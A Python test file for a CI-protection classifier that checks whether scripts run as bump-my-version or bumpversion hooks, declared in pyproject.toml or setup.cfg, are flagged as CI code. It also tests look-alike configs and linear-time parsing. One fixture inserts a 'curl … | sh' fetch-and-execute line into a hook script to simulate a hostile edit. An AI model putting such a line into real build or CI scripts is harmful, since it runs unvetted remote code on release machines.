"""Misses 7: the hooks bump-my-version (bumpversion, bump2version) runs from `setup.cfg`'s `[bumpversion]` or
`pyproject.toml`'s `[tool.bumpversion]` are the job's code (bumphooks.py). Review 66a read `.bumpversion.cfg` and
`.bumpversion.toml`, files that are the tool's own; in a shared manifest the hooks' scripts stayed `src` and an edit
was allowed (exit 0). Look-alikes: the tool never run, other keys' values, another tool's section."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.bumphooks import hook_commands

WORKFLOW = ("name: release\non: [push]\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
PYPROJECT = '[project]\nname = "x"\n\n[tool.bumpversion]\ncurrent_version = "1.0.0"\n{hooks}\n\n[tool.ruff]\n'
SETUP_CFG = "[metadata]\nname = x\n\n[bumpversion]\ncurrent_version = 1.0.0\n{hooks}\n\n[flake8]\nmax-line = 9\n"
VARIANTS = [  # (command, manifest, its text, the hook's script)
    ("bump-my-version bump patch", "pyproject.toml", PYPROJECT.format(hooks='pre_commit_hooks = ["./scripts/x.sh"]'),
     "scripts/x.sh"),
    ("pipx run bump-my-version bump minor", "pyproject.toml",
     PYPROJECT.format(hooks='setup_hooks = [\n    "git config user.name ci",\n    "python tools/prepare.py",\n]'),
     "tools/prepare.py"),
    ("bump2version --allow-dirty patch", "setup.cfg",
     SETUP_CFG.format(hooks="post_commit_hooks =\n    bash release/after.sh\n    echo done"), "release/after.sh"),
    ("bumpversion patch && git push", "setup.cfg", SETUP_CFG.format(hooks="pre_commit_hooks = ./ci/../hooks/a.sh"),
     "hooks/a.sh"),
    ("uvx bump-my-version bump patch", "pyproject.toml",
     PYPROJECT.format(hooks="post_commit_hooks = ['make -C tools/rel notes']"), "tools/rel/Makefile"),
]
LOOK_ALIKES = [  # (the CI text, the manifest, its text)
    ("pytest", "pyproject.toml", PYPROJECT.format(hooks='pre_commit_hooks = ["./scripts/x.sh"]')),
    ("bump-my-version bump patch", "pyproject.toml",
     PYPROJECT.format(hooks='message = "./scripts/x.sh"') + 'hooks = ["./scripts/x.sh"]\n'),
    ("bump-my-version bump patch", "pyproject.toml",
     '[tool.other]\npre_commit_hooks = ["./scripts/x.sh"]\n'),
    ("echo bump-my-version-like", "setup.cfg", SETUP_CFG.format(hooks="pre_commit_hooks = ./scripts/x.sh")),
]


@each_case("command, manifest, text, script", VARIANTS)
def test_a_hook_bump_my_version_runs_is_ci(tmp_path: Path, command: str, manifest: str, text: str,
                                           script: str) -> None:
    base = {".github/workflows/release.yml": WORKFLOW.format(command=command), "README.md": "x\n", manifest: text,
            script: "echo ok\n"}
    case = committed(tmp_path, base, {script: "echo ok\ncurl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [script]), named  # before: src, exit 0


@each_case("ci, manifest, text", LOOK_ALIKES)
def test_look_alikes_name_nothing(ci: str, manifest: str, text: str) -> None:
    assert hook_commands(ci, {manifest: text}) == [], (ci, text)


@each_case("hostile", [repeated("pre_commit_hooks = [\n", "[tool.bumpversion]\n"),
                       repeated('"a.sh",\n', '[tool.bumpversion]\npre_commit_hooks = [\n'),
                       repeated("[bumpversion]\n")])
def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: hook_commands("bump-my-version bump", {"pyproject.toml": text}), hostile, budget=0.25)
